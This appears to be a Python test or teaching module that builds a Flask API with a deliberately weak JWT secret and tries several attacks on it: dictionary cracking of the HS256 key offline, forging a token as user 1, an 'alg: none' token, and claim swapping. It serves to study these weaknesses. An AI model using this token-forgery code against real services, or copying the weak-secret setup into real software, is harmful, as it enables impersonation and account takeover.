"""What each way comes to: (the API was asked that often before the key was known, user 1 was reached)."""

import base64
import hashlib
import json
import warnings

import jwt
from flask import Flask
from flask_jwt_extended import JWTManager, create_access_token, get_jwt_identity, jwt_required

WORDS = ["password", "secret", "letmein", "harbour", "harbour1", "harbour42", "lighthouse"]


def api():
    warnings.simplefilter("ignore", jwt.InsecureKeyLengthWarning)
    app = Flask(__name__)
    app.config["JWT_SECRET_KEY"] = "harbour42"
    app.config["JWT_ALGORITHM"] = "HS256"
    JWTManager(app)
    asked = []

    @app.before_request
    def count():
        asked.append(1)

    @app.get("/me")
    @jwt_required()
    def me():
        return {"id": get_jwt_identity()}

    with app.app_context():
        token = create_access_token("7")

    def identity(other):
        return app.test_client().get("/me", headers={"Authorization": f"Bearer {other}"}).json.get("id")

    return token, identity, asked


def part(data):
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


def by_words():
    """Returns (requests sent while guessing, the identity of a token that is signed with what was found)."""
    token, identity, asked = api()
    claims = jwt.decode(token, options={"verify_signature": False})
    for word in WORDS:
        try:
            jwt.decode(token, word, algorithms=["HS256"])
        except jwt.InvalidSignatureError:
            continue
        sent = len(asked)
        return sent, identity(jwt.encode({**claims, "sub": "1"}, word, algorithm="HS256"))
    return len(asked), None


def guess_online():
    requests, _ = by_words()
    return requests, len(WORDS)  # it claims a request for each guess


def read_the_key():
    token, _, _ = api()
    third = token.rpartition(".")[2]
    hashed = base64.urlsafe_b64encode(hashlib.sha256(b"harbour42").digest()).rstrip(b"=").decode()
    return third == hashed, True


def nothing():
    return by_words()[1], None


def guess_offline():
    return by_words(), (0, "1")


def alg_none():
    token, identity, _ = api()
    claims = jwt.decode(token, options={"verify_signature": False})
    return identity(f"{part({'alg': 'none', 'typ': 'JWT'})}.{part({**claims, 'sub': '1'})}."), "1"


def swap_the_claim():
    token, identity, _ = api()
    claims = jwt.decode(token, options={"verify_signature": False})
    first, _, third = token.split(".")
    return identity(f"{first}.{part({**claims, 'sub': '1'})}.{third}"), "1"
